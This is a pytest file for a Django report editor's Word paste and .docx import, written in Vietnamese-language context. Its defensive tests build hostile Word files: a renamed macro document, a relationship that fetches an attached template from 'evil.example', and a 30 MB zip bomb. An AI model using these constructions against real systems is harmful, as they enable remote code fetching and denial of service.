"""The narrative editor (issue 12, item 9): a preview as it will print, Word's paste and an uploaded .docx kept as
paragraphs and simple lists through the same markup, hostile Word files refused in Vietnamese."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document

from reports.models import ReportVersion
from reports.rules import narrative_html
from reports.services import report as services
from reports.wordtext import word_html_to_markup, word_text_to_markup
from tests.conftest import World, client_for

pytestmark = pytest.mark.django_db

# What Word 2016 puts on the clipboard (trimmed): Office namespaces, MsoNormal paragraphs, <o:p>, mso styles,
# a list whose bullets are text inside <![if !supportLists]>, a conditional comment, a style block.
WORD_PASTE = """<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {mso-style-parent:"";} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head>
<body lang=VI style='tab-interval:36.0pt'><!--StartFragment-->
<p class=MsoNormal style='margin-bottom:6.0pt;text-align:justify'><span lang=VI style='font-size:14.0pt;
font-family:"Times New Roman",serif;mso-fareast-font-family:"Times New Roman"'>Năm 2022, các đơn vị
hoàn thành <b style='mso-bidi-font-weight:normal'>tốt</b> nhiệm vụ.<o:p></o:p></span></p>
<p class=MsoNormal><span style='mso-spacerun:yes'>&nbsp;</span><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='font-family:Symbol;mso-fareast-font-family:Symbol'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;
</span></span><![endif]><span lang=VI>tuyên truyền &lt;script&gt;;<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
lang=VI>2.<span style='font:7.0pt "Times New Roman"'>&nbsp; </span></span><![endif]><span lang=VI>cải cách
hành chính.<o:p></o:p></span></p>
<!--EndFragment--></body></html>"""


def test_words_paste_html_comes_out_as_clean_paragraphs_and_a_list() -> None:
    markup = word_html_to_markup(WORD_PASTE)

    assert markup == ("Năm 2022, các đơn vị hoàn thành **tốt** nhiệm vụ.\n\n"
                      "- tuyên truyền <script>;\n- cải cách hành chính.")
    printed = narrative_html(markup)
    assert printed == ("<p>Năm 2022, các đơn vị hoàn thành <strong>tốt</strong> nhiệm vụ.</p>\n"
                       "<ul><li>tuyên truyền &lt;script&gt;;</li><li>cải cách hành chính.</li></ul>")
    assert "mso" not in printed and "o:p" not in printed and "class" not in printed
    assert word_html_to_markup("<p class=MsoNormal>Dán từ<b> Word</b>.<o:p></o:p></p>") == "Dán từ **Word**."


def test_words_plain_text_paste_turns_its_bullets_into_list_items() -> None:
    pasted = "Kết quả:\n•\tthứ nhất\n•\tthứ hai\n1.\tthứ ba"

    assert word_text_to_markup(pasted) == "Kết quả:\n\n- thứ nhất\n- thứ hai\n- thứ ba"
    assert word_text_to_markup("Đoạn một.\n- đã là markup") == "Đoạn một.\n- đã là markup"  # untouched


@pytest.fixture
def draft(world: World) -> ReportVersion:
    version = services.report_draft_create(actor=world.users["secretariat"], bloc_year=world.bloc_year)
    return services.report_narrative_update(actor=world.users["secretariat"], version=version,
                                            narrative={"lessons": "Bài học cũ."})


def _docx(build=None) -> bytes:  # noqa: ANN001
    document = Document()
    document.add_paragraph("Đoạn đầu của văn bản Word.")
    para = document.add_paragraph("Một đoạn có ")
    para.add_run("chữ đậm").bold = True
    para.add_run(" và chữ thường.")
    document.add_paragraph("ý thứ nhất", style="List Bullet")
    document.add_paragraph("ý thứ hai", style="List Number")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text = "Bảng bị bỏ qua"
    if build:
        build(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _upload(data: bytes, name: str = "bao-cao.docx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/vnd.openxmlformats-officedocument"
                                                    ".wordprocessingml.document")


def _post_docx(world: World, draft: ReportVersion, data: bytes, name: str = "bao-cao.docx"):  # noqa: ANN202
    client = client_for(world.users["secretariat"])
    return client.post(reverse("reports:report-edit", args=[draft.pk]),
                       {**draft.narrative, "section": "strengths", "import_docx": "1", "docx": _upload(data, name)})


def test_a_word_file_fills_a_section_with_its_paragraphs_and_lists_unsaved(world: World, draft: ReportVersion) -> None:
    response = _post_docx(world, draft, _docx())
    page = response.content.decode()
    text = response.context["form"].initial["strengths"]

    assert response.status_code == 200
    assert text == ("Đoạn đầu của văn bản Word.\n\nMột đoạn có **chữ đậm** và chữ thường.\n\n"
                    "- ý thứ nhất\n- ý thứ hai")
    assert "<li>ý thứ nhất</li>" in page and "<strong>chữ đậm</strong>" in page  # the preview
    assert "Bảng bị bỏ qua" not in page
    draft.refresh_from_db()
    assert draft.narrative["strengths"] == ""  # nothing saved until "Save the draft"
    saved = client_for(world.users["secretariat"]).post(reverse("reports:report-edit", args=[draft.pk]),
                                                        {**draft.narrative, "strengths": text})
    draft.refresh_from_db()
    assert saved.status_code == 302 and draft.narrative["strengths"] == text


def _rezip(data: bytes, change) -> bytes:  # noqa: ANN001
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, change(item.filename, source.read(item.filename)))
        extra = change("", b"")
        if extra:
            target.writestr(*extra)
    return out.getvalue()


def _macro(name: str, content: bytes):  # noqa: ANN202
    if name == "[Content_Types].xml":
        return content.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    return ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0") if name == "" else content


def _external(name: str, content: bytes):  # noqa: ANN202
    if name == "word/_rels/document.xml.rels":
        return content.replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org'
                               b'/officeDocument/2006/relationships/attachedTemplate" '
                               b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    return None if name == "" else content


def _bomb(name: str, content: bytes):  # noqa: ANN202
    return ("word/media/zeros.bin", b"\0" * (30 * 1024 * 1024)) if name == "" else content


@pytest.mark.parametrize(("label", "change", "name"), [
    ("a .docm renamed", _macro, "bao-cao.docx"),
    ("an attached template fetched from elsewhere", _external, "bao-cao.docx"),
    ("a zip bomb", _bomb, "bao-cao.docx"),
])
def test_a_hostile_word_file_is_refused_in_vietnamese(world: World, draft: ReportVersion, label: str, change,  # noqa: ANN001
                                                      name: str) -> None:
    response = _post_docx(world, draft, _rezip(_docx(), change), name)
    page = response.content.decode()

    assert response.status_code == 200, label
    assert "macro" in page and "Word" in page and "không" in page.lower(), label  # the Vietnamese sentence
    assert response.context["form"].initial["strengths"] == "", label
    draft.refresh_from_db()
    assert draft.narrative["strengths"] == "", label


def test_a_file_that_is_not_word_is_refused(world: World, draft: ReportVersion) -> None:
    response = _post_docx(world, draft, b"%PDF-1.7 not a word file")

    assert response.status_code == 200 and response.context["upload"].errors["docx"]


def test_the_preview_button_renders_the_section_as_it_will_print_without_saving(world: World,
                                                                             draft: ReportVersion) -> None:
    client = client_for(world.users["secretariat"])
    response = client.post(reverse("reports:report-edit", args=[draft.pk]),
                           {"lessons": "Đoạn **đậm** <b>thẻ</b>.\n\n- một\n- hai", "preview": "1"})
    page = response.content.decode()

    assert response.status_code == 200
    assert "<p>Đoạn <strong>đậm</strong> &lt;b&gt;thẻ&lt;/b&gt;.</p>" in page
    assert "<ul><li>một</li><li>hai</li></ul>" in page
    assert "js/narrative" in page  # the live preview's script, from our own static files
    draft.refresh_from_db()
    assert draft.narrative["lessons"] == "Bài học cũ."


def test_a_word_paste_sent_by_the_script_is_added_to_its_section(world: World, draft: ReportVersion) -> None:
    client = client_for(world.users["secretariat"])
    response = client.post(reverse("reports:report-edit", args=[draft.pk]),
                           {**draft.narrative, "pasted_section": "lessons", "pasted_html": WORD_PASTE, "preview": "1"})

    assert response.context["form"].initial["lessons"].startswith(
        "Bài học cũ.\n\nNăm 2022, các đơn vị hoàn thành **tốt** nhiệm vụ.\n\n- tuyên truyền")
